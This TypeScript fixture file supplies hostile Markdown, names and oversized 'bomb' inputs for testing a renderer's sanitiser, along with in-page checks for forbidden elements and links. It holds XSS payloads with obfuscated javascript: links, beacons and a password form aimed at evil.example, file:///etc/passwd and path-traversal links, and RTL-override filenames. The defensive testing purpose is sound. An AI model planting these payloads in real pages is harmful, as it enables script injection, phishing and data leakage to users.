/** Texts of hostile agents and strangers, meant to run script in the reader's page, to call home, or to look like the page. */

const run = 'window.hacked=1';

/** Each is a paragraph of an answer. */
export const hostileMarkdown: readonly string[] = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  '<img src="https://evil.example/1.png">',
  '![picture](https://evil.example/2.png)',
  '![](//evil.example/3.png)',
  '![vector](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![own](/v1/account/session)',
  `[run](javascript:${run})`,
  `[run](JaVaScRiPt:${run})`,
  `[run](&#106;avascript:${run})`,
  `[run](<java\tscript:${run}>)`,
  `[run](<\u0001javascript:${run}>)`,
  `[run](vbscript:${run})`,
  `[data](data:text/html,<script>${run}</script>)`,
  '[blob](blob:https://evil.example/1)',
  '[file](file:///etc/passwd)',
  `[ref]\n\n[ref]: javascript:${run}`,
  `<javascript:${run}>`,
  '[https://bank.example](https://evil.example/login)',
  'https://bank.example@evil.example/login',
  '[relative](//evil.example/x)',
  '[climb](../../../account/keys)',
  '[climb](/workspace/../../etc/passwd)',
  '[page](/account/keys)',
  `<iframe src="https://evil.example"></iframe>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<svg onload="${run}"></svg>`,
  `<details open ontoggle="${run}">x</details>`,
  `<a href="javascript:${run}" autofocus onfocus="${run}">x</a>`,
  '<style>@import url(https://evil.example/4.css); body { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.example/5.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password" autofocus></form>',
  '<object data="https://evil.example/6"></object><embed src="https://evil.example/7">',
  `<video src="https://evil.example/8" autoplay onerror="${run}"></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  '```html\n<script>window.hacked=1</script>\n```',
  '```"onmouseover="window.hacked=1\nx\n```',
  `[title](https://good.example "\\" onmouseover=\\"${run}")`,
  'A name that turns: \u202Egpj.exe and \u2066hidden\u2069',
  'Note[^1]\n\n[^1]: <img src=x onerror=window.hacked=1>',
  '# <b onclick=window.hacked=1>Sign in again</b>',
  `| a |\n|---|\n| <img src=x onerror="${run}"> |`,
];

/** Names and lines that strangers choose. */
export const hostileNames: readonly string[] = [
  `<script>${run}</script>`,
  `"><img src=x onerror=${run}>`,
  'Lodge\u202E.nimda',
  'https://evil.example/x.png',
  '\u0000\u001B]0;title\u0007\u200B',
  'W'.repeat(5000),
];

/** The same as adapters hand them over: the database takes no NUL. */
export const storableNames = hostileNames.map((name) => name.replaceAll('\0', ''));

/** Texts that take a parser long, or a page much. */
export const bombs: readonly string[] = [
  '>'.repeat(50_000),
  '*a_'.repeat(30_000),
  '['.repeat(90_000),
  `${'|a'.repeat(500)}\n${'|-'.repeat(500)}\n${'|\n'.repeat(20_000)}`,
  '- '.repeat(20_000),
  'x'.repeat(150_000),
];

/** Runs in the page: what must not be there. */
export const badElements = `[...document.querySelectorAll('main img, main iframe, main object, main embed, main video, main style, main link, main svg script, main script, main form[action], main base, main meta')].map((one) => one.outerHTML)`;

/** Runs in the page: links of others that lead elsewhere than into a window of their own, to http, https or mail. */
export const badLinks = `[...document.querySelectorAll('main [dir=auto] a[href]')].filter((a) => !(['http:', 'https:', 'mailto:'].includes(a.protocol) && a.target === '_blank' && a.rel === 'noopener noreferrer') && !a.pathname.endsWith('/files')).map((a) => a.outerHTML)`;
